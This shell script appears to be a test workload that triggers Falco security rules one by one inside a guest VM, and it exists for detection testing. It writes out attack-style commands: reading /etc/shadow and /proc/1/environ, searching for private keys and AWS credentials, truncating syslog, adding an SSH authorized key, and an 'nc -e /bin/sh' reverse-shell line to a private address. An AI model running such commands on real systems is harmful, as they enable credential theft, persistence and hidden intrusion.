#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
#
# The attack workload (busybox sh, in the guest, run once under each
# recorder): one step per rule of falco_rules.yaml, named in
# tests/falco/expected.txt. Programs that must carry a given proc.name are
# links to (or copies of) falco-attack or busybox in /tmp/wl. Commands are
# run by path: busybox sh runs a bare applet name as /proc/self/exe, whose
# process name is "exe". Every step
# runs whether or not the previous one worked; the recording decides.
# Each command is traced to the log (set -x), which guest.sh prints.
set -x
wl=/tmp/wl
A=/bin/falco-attack
/bin/rm -rf $wl /tmp/attack-data
/bin/mkdir -p $wl /tmp/attack-data /var/log /dev/shm /root/.aws
/bin/cp $A $wl/nginx
/bin/ln -s $A $wl/sshd
/bin/ln -s $A $wl/httpd
/bin/ln -s $A $wl/ssh
for n in nc shred debugfs wget crontab xmrig; do /bin/ln -s $A $wl/$n; done

# server: an "nginx" started first, reading /etc/shadow 6 s later and
# spawning a shell (Read sensitive file trusted after startup, Run shell
# untrusted); the other steps run meanwhile.
echo "STEP server"
$wl/nginx &
nginx=$!

# young-server: an "httpd" younger than 5 s reads /etc/shadow (Read
# sensitive file trusted after startup must not fire on it).
echo "STEP young-server"
$wl/httpd

# traverse: /etc/passwd opened through ../ (Directory traversal monitored
# file read).
echo "STEP traverse"
$A traverse

# shadow: cat reads /etc/shadow (Read sensitive file untrusted).
echo "STEP shadow"
/bin/cat /etc/shadow >/dev/null

# sysuser: a shell run as nobody below an "sshd" (System user interactive).
echo "STEP sysuser"
$wl/sshd

# keysearch: grep and find for private keys (Search Private Keys or
# Passwords).
echo "STEP keysearch"
echo "-----BEGIN RSA PRIVATE KEY-----" >/tmp/attack-data/key
/bin/grep -r "BEGIN RSA PRIVATE" /tmp/attack-data >/dev/null
/usr/bin/find /tmp/attack-data -name id_rsa >/dev/null

# aws: grep and find for AWS credentials (Find AWS Credentials).
echo "STEP aws"
echo "aws_secret_access_key = x" >/root/.aws/credentials
/bin/grep aws_secret_access_key /root/.aws/credentials >/dev/null
/usr/bin/find /root -path /root/.aws/credentials >/dev/null

# clearlog: /var/log/syslog truncated (Clear Log Activities).
echo "STEP clearlog"
echo old >/var/log/syslog
: >/var/log/syslog

# wipe: shred runs (Remove Bulk Data from Disk).
echo "STEP wipe"
$wl/shred /tmp/attack-data/key

# symlink, hardlink: links to /etc/shadow (Create Symlink / Hardlink Over
# Sensitive Files).
echo "STEP symlink"
/bin/ln -s /etc/shadow /tmp/attack-data/shadow-link
/bin/ln /etc/shadow /root/shadow-hardlink

# ptrace: PTRACE_TRACEME and PTRACE_ATTACH (PTRACE anti-debug attempt,
# PTRACE attached to process).
echo "STEP ptrace"
$A ptrace

# devshm: a program run from /dev/shm (Execution from /dev/shm).
echo "STEP devshm"
/bin/cp /bin/busybox /dev/shm/shm-exe
/dev/shm/shm-exe true

# ssh: an "ssh" connecting to 1.2.3.4:443 (Disallowed SSH Connection Non
# Standard Port).
echo "STEP ssh"
$wl/ssh

# memfd: busybox run from a memfd (Fileless execution via memfd_create).
echo "STEP memfd"
$A memfd

# proxy: wget run with HTTP_PROXY in its environment (incubating: Program
# run with disallowed http proxy env).
echo "STEP proxy"
HTTP_PROXY=http://10.0.0.1:3128 $wl/wget http://example.com/

# Container rules' system calls (they cannot fire outside a container, but
# the differential test compares their conditions too): netcat with -e, a
# packet socket, stdout on a TCP socket, finit_module, debugfs, a write to
# a file named release_agent.
echo "STEP container"
$wl/nc -e /bin/sh 10.0.0.1 4444
$A packet dup finit_module
$wl/debugfs
echo 1 >/tmp/attack-data/release_agent

# More of the other files' rules (not checked for firing; they give the
# differential test events to compare): shell configuration written and
# read, a crontab run, ~/.ssh read and authorized_keys written, setns, UDP,
# a file created below /dev, shell history removed, a setuid bit, another
# process's environ read, writes below /bin, /lib and /root, a directory
# made and a file renamed in /bin, a miner's name and port.
echo "STEP more"
echo "alias x=y" >>/root/.bashrc
/bin/cat /root/.bashrc >/dev/null
$wl/crontab -l
/bin/mkdir -p /root/.ssh
echo "ssh-ed25519 AAAA x" >>/root/.ssh/authorized_keys
/bin/cat /root/.ssh/authorized_keys >/dev/null
$A setns udp
echo x >/dev/attack-dev-file
echo "ls" >/root/.ash_history
/bin/rm /root/.ash_history
/bin/chmod u+s /tmp/attack-data/key
/bin/cat /proc/1/environ >/dev/null
echo x >/bin/attack-bin-file
echo x >/lib/attack-lib-file
echo x >/root/attack-root-file
/bin/mkdir /bin/attack-bin-dir
/bin/mv /bin/attack-bin-file /bin/attack-bin-file2
$wl/xmrig

wait $nginx
/bin/rm -rf $wl /tmp/attack-data /dev/shm/shm-exe /root/shadow-hardlink /root/.aws \
	/root/.bashrc /root/.ssh /dev/attack-dev-file /bin/attack-bin-file2 /lib/attack-lib-file \
	/root/attack-root-file /bin/attack-bin-dir
$A end
